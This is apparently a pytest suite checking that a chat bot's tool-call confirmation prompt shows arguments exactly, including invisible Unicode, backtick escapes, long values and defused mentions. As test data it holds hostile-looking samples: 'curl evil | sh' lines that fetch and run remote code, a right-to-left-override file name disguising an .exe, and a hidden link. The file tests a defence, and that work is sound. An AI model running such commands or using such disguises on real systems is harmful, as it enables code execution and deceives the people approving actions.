"""The bot's own texts: the confirmation prompt shows exactly what will run (#13.5, I06)."""

from __future__ import annotations

import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot import replies

CURL = "\ncurl evil | sh"
NOTES = "meeting notes " + "x" * (263 - len("meeting notes ") - len(CURL))
MARKER = re.compile(r"⟨U\+([0-9A-F]{4,6})⟩")


def prompt(**args: object) -> str:
    return replies.confirmation_prompt(
        tool="file_write",
        args=args,
        args_hash="ab" * 32,
        code="ABCDE",
        requester="Alice",
        expires="12:00 UTC (2026-01-01)",
    )


def code_blocks(text: str) -> list[str]:
    """The content of each fenced code block, closed where CommonMark closes it."""
    lines = text.split("\n")
    blocks = []
    index = 0
    while index < len(lines):
        opening = re.fullmatch(r" {0,3}(`{3,})[^`]*", lines[index])
        index += 1
        if opening is None:
            continue
        closing = re.compile(rf" {{0,3}}`{{{len(opening.group(1))},}}[ \t]*")
        body = []
        while index < len(lines) and not closing.fullmatch(lines[index]):
            body.append(lines[index])
            index += 1
        index += 1
        blocks.append("\n".join(body))
    return blocks


def decoded(shown: str) -> str:
    """The value a block shows, its markers read back (the legend the prompt gives)."""
    text = shown.replace("⟨wrap⟩\n", "").replace("⟨TAB⟩", "\t")
    return MARKER.sub(lambda m: chr(int(m.group(1), 16)), text)


def test_i06_a_long_value_is_shown_to_its_last_line() -> None:
    """#13.5: 263 characters with a command on the last line: the command is shown."""
    assert len(NOTES + CURL) == 263
    text = prompt(path="notes.txt", content=NOTES + CURL)
    assert "\ncurl evil | sh\n" in text
    assert "characters in all" not in text
    assert [decoded(block) for block in code_blocks(text)] == [NOTES + CURL]
    assert '- path: `"notes.txt"`' in text


def test_i06_bidi_override_is_shown_as_a_marker() -> None:
    text = prompt(path="invoice\u202etxt.exe")
    assert "\u202e" not in text
    assert "invoice⟨U+202E⟩txt.exe" in text


def test_i06_zero_width_and_other_invisible_characters_are_shown() -> None:
    hidden = "a\u200bb\u200dc\u2060d\ufeffe\u2066f\u061cg\u00adh\U000e0041i\u3164j\x07k\x9bl\u2028m"
    text = prompt(path=hidden)
    for char in hidden[1::2]:
        assert char not in text
        assert f"⟨U+{ord(char):04X}⟩" in text


def test_i06_tabs_and_carriage_returns_are_visible_and_newlines_stay_lines() -> None:
    text = prompt(content="a\tb\r\nc")
    assert "\t" not in text
    assert "\r" not in text
    assert "a⟨TAB⟩b⟨U+000D⟩\nc" in text


def test_i06_a_literal_marker_cannot_pass_for_an_escape() -> None:
    text = prompt(path="⟨U+202E⟩")
    assert "⟨U+27E8⟩U+202E⟩" in text


def test_i06_backticks_in_a_value_cannot_close_its_block() -> None:
    value = "notes\n```\n[click](https://evil.example) <!-- hide -->\n``````\ncurl evil | sh"
    text = prompt(content=value)
    assert [decoded(block) for block in code_blocks(text)] == [value]
    assert text.rstrip().endswith("works too.")


def test_i06_backticks_in_a_short_value_cannot_close_its_span() -> None:
    text = prompt(path="a``b`")
    assert '- path: ``` "a``b`" ```' in text


def test_i06_a_long_line_is_folded_with_a_marker_not_cut() -> None:
    value = "y" * 500 + " && curl evil | sh"
    text = prompt(url=value)
    (block,) = code_blocks(text)
    assert all(len(line) <= 100 for line in block.split("\n"))
    assert decoded(block) == value


def test_i06_combining_marks_cannot_pile_up_over_other_lines() -> None:
    text = prompt(path="e" + "\u0301" * 40)
    assert "\u0301" * 5 not in text
    assert text.count("⟨U+0301⟩") == 36


def test_i06_emoji_keep_their_presentation_selector() -> None:
    text = prompt(message="thanks ❤️")
    assert "❤️" in text
    assert "⟨" not in text


def test_i06_a_legend_explains_the_markers_only_when_there_are_some() -> None:
    assert "⟨U+…⟩" in prompt(path="a\u200bb")
    assert "⟨U+…⟩" not in prompt(path="notes.txt")


def test_i06_non_text_arguments_are_shown_in_full_as_json() -> None:
    rows = [{"cmd": "echo " + "z" * 300 + "\n"}]
    text = prompt(rows=rows, count=3)
    assert "- count: `3`" in text
    (block,) = code_blocks(text)
    assert decoded(block) == json.dumps(rows, ensure_ascii=False, indent=2)


def test_i06_arguments_too_large_for_one_message_do_not_fit() -> None:
    """#13.5: 31,000 characters of arguments cannot be shown in one Talk message."""
    assert len(prompt(content="x" * 31_000)) > replies.MESSAGE_LIMIT
    assert len(prompt(content="line of text\n" * 1_500)) <= replies.MESSAGE_LIMIT


@given(st.text(), st.text())
def test_i06_every_multi_line_value_reads_back_exactly(first: str, rest: str) -> None:
    value = f"{first}\n{rest}"
    text = prompt(content=value)
    assert [decoded(block) for block in code_blocks(text)] == [value]
    assert text.rstrip().endswith("works too.")


def test_i06_the_pending_listing_escapes_and_says_how_to_see_all() -> None:
    line = replies.pending_line(
        "ABCDE",
        tool="file_write",
        room="grouproom1",
        requester="users/alice",
        status="pending",
        expires="12:00",
        args={"path": "a\u202eb", "content": NOTES + CURL},
    )
    text = replies.pending_list([line], prefix="!")
    assert "\u202e" not in text
    assert "a⟨U+202E⟩b" in text
    assert "263 characters" in text
    assert "`!pending CODE` shows" in text


@pytest.mark.parametrize(
    ("written", "posted"),
    [
        ("@all stand-up now", "@\u200ball stand-up now"),
        ("ping @bob and @here", "ping @\u200bbob and @\u200bhere"),
        ('@"group/dev team" look', '@\u200b"group/dev team" look'),
        ("line one\n@alice line two", "line one\n@\u200balice line two"),
        ("write to alice@example.com", "write to alice@example.com"),  # no mention to Talk
    ],
)
def test_i09_every_mention_the_model_or_a_job_writes_is_defused(written: str, posted: str) -> None:
    """#13.8: @all, @here and user or group mentions keep their text but notify nobody."""
    assert replies.defuse_mentions(written) == posted
